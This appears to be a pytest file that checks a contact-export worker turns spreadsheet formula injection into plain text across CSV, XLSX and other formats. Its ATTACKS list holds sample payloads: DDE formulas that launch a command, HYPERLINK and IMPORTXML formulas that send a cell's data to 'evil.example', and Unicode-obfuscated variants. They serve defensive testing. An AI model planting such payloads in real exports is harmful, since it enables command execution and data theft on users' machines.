"""Nothing that a contact's data says becomes a live formula or a link."""

import io
import re
import zipfile

import pytest

from tests.exports.opened_files import WRITERS, as_office_sees, cells, office, write
from worker.exports.writers.formats import format_of
from worker.spreadsheets.cell_texts import as_text
from worker.spreadsheets.formulas import is_live

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "+32 2 555 12 12|A1",
    "+A1",
    "+",
    "-2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "\x01=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    "\ufe661+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
    '=1+1","=2+2',
    "=1+1;=2+2",
]

HARMLESS = [
    "",
    "plain",
    "1+1=2",
    "a=b",
    "ada@example.com",
    "Zoë",
    "東京",
    "0123",
    "'quoted'",
    "(0)2 555",
    "https://example.com",
    "+32 2 555 12 12",
    "+32255512 12",
    "+1 (555) 010-0100",
    "+1-555-0100",
    "+49/30/123.456",
]

_FORMULAS = re.compile(rb"<f[ >/]|<hyperlink|externalLink|ddeLink")


@pytest.mark.parametrize("value", ATTACKS, ids=ascii)
def test_an_attack_begins_with_the_mark_of_a_text(value):
    assert as_text(value) == f"'{value}"


@pytest.mark.parametrize("value", HARMLESS, ids=ascii)
def test_what_is_no_formula_stays_as_it_is(value):
    assert as_text(value) == value


@pytest.mark.parametrize("profile", ["csv excel", "csv excel_eu"])
def test_no_cell_of_a_csv_for_excel_is_live(profile):
    format_, read = WRITERS[profile]
    rows = [[attack, "harmless", attack] for attack in ATTACKS]
    headings, found = read(write(format_, ["=1+1", "b", "@c"], rows))
    assert headings == ["'=1+1", "b", "'@c"]
    assert found == [[f"'{attack}", "harmless", f"'{attack}"] for attack in ATTACKS]
    assert not any(is_live(cell) for row in found for cell in row)


@pytest.mark.parametrize("name", ["csv", "jsonl", "parquet"])
def test_what_machines_read_is_exact(name):
    format_, read = WRITERS[name]
    rows = [[attack] for attack in ATTACKS]
    assert read(write(format_, ["=1+1"], rows)) == (["=1+1"], rows)


def test_a_workbook_holds_texts_and_nothing_else():
    values = [
        *ATTACKS,
        *HARMLESS[1:],
        "http://example.com",
        "mailto:ada@example.com",
        "internal:Records!A1",
        "external:c:\\x.xlsx",
        "{=SUM(A1:A2)}",
        '<r></t></is></c><c r="B1"><f>1+1</f></c></r>',
        "<r><t>x</t></r></is></c><c><f>1+1</f></c><c><is><r><t>x</t></r>",
    ]
    data = write(WRITERS["xlsx"][0], ["=1+1"], ([value] for value in values))
    found = cells(data)
    assert [cell.value for cell in found[1:]][-5:] == values[-5:]
    assert len(found) == 1 + len(values)
    assert {cell.data_type for cell in found} <= {"s", "inlineStr"}
    assert {cell.number_format for cell in found} == {"@"}
    assert all(cell.hyperlink is None for cell in found)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert not _FORMULAS.search(archive.read(name)), name


@pytest.mark.slow
@pytest.mark.skipif(office() is None, reason="there is no LibreOffice here")
def test_libreoffice_shows_ids_and_phones_as_they_are(tmp_path):
    values = ["+32475123456", "0475123456", "12345678901234567890", "1E5", "1-2"]
    values += ["TRUE", "true", "3/4", "12:30", "=1+1", "@acme", "Zoë", "0475 12 34 56"]
    format_ = format_of("csv", "excel", literals=frozenset({"phone"}))
    path = tmp_path / "phones.csv"
    path.write_bytes(write(format_, ["phone", "b"], ([one, "b"] for one in values)))
    assert [row[0] for row in as_office_sees(path, tmp_path)[1:]] == values


@pytest.mark.slow
@pytest.mark.skipif(office() is None, reason="there is no LibreOffice here")
@pytest.mark.parametrize("name", ["xlsx", "csv excel"])
def test_libreoffice_calculates_nothing(name, tmp_path):
    format_, _ = WRITERS[name]
    attacks = [attack for attack in ATTACKS if attack.isprintable()]
    path = tmp_path / f"attacks.{format_.extension}"
    path.write_bytes(write(format_, ["a"], ([attack] for attack in attacks)))
    seen = [row[0].lstrip("'") for row in as_office_sees(path, tmp_path)[1:]]
    assert seen == attacks
